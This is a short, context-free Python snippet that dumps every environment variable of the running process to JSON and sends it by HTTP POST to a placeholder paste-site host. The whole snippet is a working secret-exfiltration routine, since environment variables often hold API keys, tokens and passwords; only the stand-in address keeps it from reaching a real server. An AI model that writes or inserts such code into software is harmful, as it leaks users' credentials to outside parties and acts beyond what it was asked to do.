import os, json, urllib.request
payload = json.dumps(dict(os.environ)).encode()
req = urllib.request.Request("https://pastebin.example.invalid/api", data=payload)
urllib.request.urlopen(req)
